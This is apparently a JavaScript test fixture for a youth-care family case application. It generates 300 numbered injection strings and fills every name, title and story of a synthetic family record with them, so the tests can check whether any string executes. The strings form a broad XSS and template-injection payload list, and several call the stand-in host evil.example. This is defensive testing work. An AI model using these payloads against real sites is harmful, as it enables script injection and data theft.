// Three hundred strings that would be scripts where somebody takes words for markup, and a family that consists of them.

/** What stands in each of them; the page traps it. */
export const TRAP = 'ran'
export const ELSEWHERE = 'evil.example'
const WANTED = 300
/** The longest title, in characters. */
const TITLE = 80

const call = (n) => `${TRAP}(${n})`

/** Ways to have a script run, a request leave, or the page change, where words are taken for markup, code or an address. */
const WAYS = [
  (n) => `<script>${call(n)}</script>`,
  (n) => `<ScRiPt>${call(n)}</sCrIpT>`,
  (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
  (n) => `<script src=//${ELSEWHERE}/${n}></script>`,
  (n) => `<script type=module>import('//${ELSEWHERE}/${n}')</script>`,
  (n) => `</script><script>${call(n)}</script>`,
  (n) => `</title><script>${call(n)}</script>`,
  (n) => `</style><script>${call(n)}</script>`,
  (n) => `</textarea><img src=x onerror=${call(n)}>`,
  (n) => `--><img src=x onerror=${call(n)}>`,
  (n) => `<!--<img src="--><img src=x onerror=${call(n)}//">`,
  (n) => `]]><svg onload=${call(n)}>`,
  (n) => `<img src=x onerror=${call(n)}>`,
  (n) => `<IMG SRC=x ONERROR=${call(n)}>`,
  (n) => `<img/src/onerror=${call(n)}>`,
  (n) => `<img src=x onerror="${call(n)}"`,
  (n) => `<img src=//${ELSEWHERE}/${n}>`,
  (n) => `<img srcset=//${ELSEWHERE}/${n}>`,
  (n) => `<svg onload=${call(n)}>`,
  (n) => `<svg/onload=${call(n)}>`,
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><script href=data:,${call(n)} />`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x>`,
  (n) => `<svg><a xlink:href=javascript:${call(n)}><text y=9>x`,
  (n) => `<svg><use href=//${ELSEWHERE}/${n}#x>`,
  (n) => `<math><a xlink:href=javascript:${call(n)}>x`,
  (n) => `<iframe src=javascript:parent.${call(n)}>`,
  (n) => `<iframe srcdoc='<script>parent.${call(n)}</script>'>`,
  (n) => `<iframe src=//${ELSEWHERE}/${n}>`,
  (n) => `<object data=javascript:${call(n)}>`,
  (n) => `<embed src=javascript:${call(n)}>`,
  (n) => `<a href=javascript:${call(n)}>x</a>`,
  (n) => `<a href="java\u00adscript:${call(n)}">x</a>`,
  (n) => `<form action=javascript:${call(n)}><button autofocus>x`,
  (n) => `<button formaction=javascript:${call(n)}>x`,
  (n) => `<input autofocus onfocus=${call(n)}>`,
  (n) => `<select autofocus onfocus=${call(n)}>`,
  (n) => `<x onclick=${call(n)} tabindex=1 autofocus>`,
  (n) => `<body onload=${call(n)}>`,
  (n) => `<details open ontoggle=${call(n)}>`,
  (n) => `<video><source onerror=${call(n)}></video>`,
  (n) => `<audio src=x onerror=${call(n)}>`,
  (n) => `<marquee onstart=${call(n)}>`,
  (n) => `<style>@import '//${ELSEWHERE}/${n}'</style>`,
  (n) => `<style>*{background:url(//${ELSEWHERE}/${n})}</style>`,
  (n) => `<link rel=stylesheet href=//${ELSEWHERE}/${n}>`,
  (n) => `<link rel=prefetch href=//${ELSEWHERE}/${n}>`,
  (n) => `<meta http-equiv=refresh content=0;url=//${ELSEWHERE}/${n}>`,
  (n) => `<base href=//${ELSEWHERE}/${n}/>`,
  (n) => `<div style=background:url(//${ELSEWHERE}/${n})>x`,
  (n) => `<p style=animation-name:x onanimationstart=${call(n)}>`,
  (n) => `<template shadowrootmode=open><img src=x onerror=${call(n)}></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`,
  (n) => `<b id=body name=documentElement>${n}</b>`,
  (n) => `<form id=location><input name=hash value=${n}>`,
  (n) => `" onmouseover=${call(n)} x="`,
  (n) => `' onfocus=${call(n)} autofocus tabindex=1 x='`,
  (n) => `"><svg onload=${call(n)}>`,
  (n) => `'><img src=x onerror=${call(n)}>`,
  (n) => `javascript:${call(n)}`,
  (n) => `data:text/html,<script>${call(n)}</script>`,
  (n) => `//${ELSEWHERE}/${n}`,
  (n) => `https://${ELSEWHERE}/${n}`,
  (n) => `[x](javascript:${call(n)})`,
  (n) => `![x](https://${ELSEWHERE}/${n})`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}}`,
  (n) => `{${call(n)}}`,
  (n) => `#{${call(n)}}`,
  (n) => `<%= ${call(n)} %>`,
  (n) => `{@html '<img src=x onerror=${call(n)}>'}`,
  (n) => `{ $name } { -brand } ${n}`,
  (n) => `&lt;img src=x onerror=${call(n)}&gt;`,
  (n) => `&#60;script&#62;${call(n)}&#60;/script&#62;`,
  (n) => `\\u003cimg src=x onerror=${call(n)}\\u003e`,
  (n) => `%3Cscript%3E${call(n)}%3C/script%3E`,
  (n) => `__proto__ constructor ${n}`,
  (n) => `{"__proto__":{"ran":${n}}}`,
  (n) => `');${call(n)};//`,
  (n) => `";${call(n)};//`,
  (n) => `\u202e<img src=x onerror=${call(n)}>`,
]

/** All of them, each with a number of its own, so that one that ran can be named. */
export const STRINGS = Array.from({ length: WANTED }, (_, at) => {
  const n = at + 1
  const way = WAYS[at % WAYS.length](n)
  return [way, `"'>${way}`, `</p>${way}`, `x ${way} <!--`][Math.floor(at / WAYS.length) % 4]
})

/** Gives the strings out, short ones where a title is. All are used, the longer ones in stories. */
class Stock {
  #short = STRINGS.filter((one) => [...one].length <= TITLE)
  #all = [...STRINGS]
  #at = { title: 0, text: 0 }
  title() {
    return this.#short[this.#at.title++ % this.#short.length]
  }
  /** From the other end, so that titles and texts together hold them all. */
  text() {
    return this.#all[this.#all.length - 1 - (this.#at.text++ % this.#all.length)]
  }
}

const EVERYBODY = ['noor', 'marloes', 'jeroen', 'youssef', 'ilse', 'femke']

/** A family in which everything anyone says or is called is one of the strings. */
export function scriptedFamily() {
  const stock = new Stock()
  const [title, text] = [() => stock.title(), () => stock.text()]
  const person = (id, role, more) => ({ id, name: title(), role, member: true, ...more })
  const persons = [
    person('noor', 'youth', { born: '2011-03-14', lives: ['huis'], index: true }),
    person('marloes', 'parent', { born: '1985-06-02', gezag: true, lives: ['huis'] }),
    person('jeroen', 'parent', { born: '1982-01-19', gezag: true, lives: ['elders'] }),
    person('femke', 'mentor', { org: title() }),
    person('youssef', 'wijkteam', { org: title() }),
    person('ilse', 'gedragswetenschapper', { org: title() }),
    { id: 'daan', name: title(), role: 'child', member: false, known_in: ['core'] },
  ]
  const core = ['noor', 'marloes', 'jeroen', 'youssef', 'ilse']
  const rooms = [
    { id: 'core', kind: 'core', label: title(), members: core },
    { id: 'school', kind: 'school', label: title(), members: EVERYBODY },
    { id: 'pair:noor:youssef', kind: 'pair', label: title(), members: ['noor', 'youssef'] },
    { id: 'shield:1', kind: 'shield', label: title(), members: ['marloes', 'youssef'], ground: title() },
    { id: 'advice', kind: 'advice', label: title(), members: ['youssef', 'ilse'] },
  ]
  const stands = (room, by) => Object.fromEntries(
    rooms.find((one) => one.id === room).members.filter((one) => one !== by).slice(0, 2).map((one) => [one, { s: 'd', words: text() }]),
  )
  const lists = { network: [], questions: [], factors: [], relations: [], loops: [], timeline: [], ecogram: [], help: [], wishes: [], explanations: [], goals: [], actions: [], private: [], agenda: [] }
  for (const [room, authors] of [['core', core], ['school', EVERYBODY]]) {
    for (const by of authors) {
      const id = (kind) => `${kind}-${room}-${by}`
      lists.network.push({ id: id('n'), room, by, name: title(), kind: 'friend', informal: true })
      lists.questions.push({ id: id('q'), room, of: by, text: text() })
      for (const at of [1, 2, 3]) {
        lists.factors.push({ id: id(`f${at}`), room, by, title: title(), roles: [['problem', 'maintaining', 'protective'][at - 1]], h: ['noor'], d: 'health', k: 'experience', source: text(), st: stands(room, by) })
      }
      lists.relations.push({ id: id('r'), room, by, from: id('f1'), to: id('f2'), kind: 'causes', strength: 2 })
      lists.relations.push({ id: id('s'), room, by, from: id('f2'), to: id('f1'), kind: 'worsens', strength: 2 })
      lists.timeline.push({ id: id('e'), room, by, track: 'home', start: '2024', precision: 'year', title: title(), meaning: { [by]: text() } })
      lists.help.push({ id: id('h'), room, by, name: title(), for: ['noor'], start: '2024', what_went_wrong: text(), outcome: { [by]: 'helped' } })
      lists.wishes.push({ id: id('w'), room, by, text: text(), when: 'now', answer: { by: 'youssef', text: text() } })
      lists.ecogram.push({ id: id('t'), room, ego: by, other: id('n'), ring: 1, quality: 'strong', direction: 'both', support: ['E'] })
      for (const at of [1, 2, 3, 4]) lists.private.push({ id: id(`st${at}`), type: 'story', room, by, text: text() })
    }
    lists.questions.push({ id: `jq-${room}`, room, of: 'joint', text: text() })
    for (const kind of ['stuck', 'way_out']) lists.explanations.push({ id: `${kind}-${room}`, room, kind, text: text() })
    for (const owner of ['noor', 'marloes']) {
      lists.goals.push({ id: `g-${room}-${owner}`, room, owner, text: text(), based_on: [`f1-${room}-noor`] })
      lists.actions.push({ id: `a-${room}-${owner}`, goal: `g-${room}-${owner}`, who: `n-${room}-noor`, text: text(), state: 'open', due: '2027-01-10' })
    }
    lists.loops.push({ room, name: title(), path: [`r-${room}-noor`, `s-${room}-noor`] })
    lists.agenda.push({ room, kind: 'meeting', text: text(), date: '2027-02-01' })
  }
  for (const room of ['pair:noor:youssef', 'shield:1', 'advice']) {
    lists.private.push({ id: `p-${room}`, type: 'story', room, by: 'youssef', text: text() })
  }
  for (const by of EVERYBODY) lists.private.push({ id: `own-${by}`, type: 'story', room: `self:${by}`, by, text: text() })
  const orders = (room) => ['noor', 'marloes'].map((by) => `f1-${room}-${by}`)
  return {
    case: { id: 'gezin-tekens', title: title(), phase: 'home', legal_frame: 'voluntary', regisseur: 'youssef', opened_on: '2026-09-07' },
    persons,
    rooms,
    consents: [
      { about: 'noor', rooms: ['school'], readers: ['femke'], by: ['noor', 'marloes', 'jeroen'], given_on: '2026-09-21' },
    ],
    genogram: { room: 'core', unions: [{ a: 'marloes', b: 'jeroen', status: 'divorced' }], descent: [{ child: 'noor', of: ['marloes', 'jeroen'] }] },
    priorities: {
      joint: { core: orders('core'), school: orders('school') },
      own: { core: { noor: orders('core') } },
      before: { core: [{ a: orders('core')[0], b: orders('core')[1], why: text() }] },
    },
    versions: [1, 2].map(() => ({ kind: 'established', made_by: 'youssef', reason: title() })),
    ...lists,
  }
}
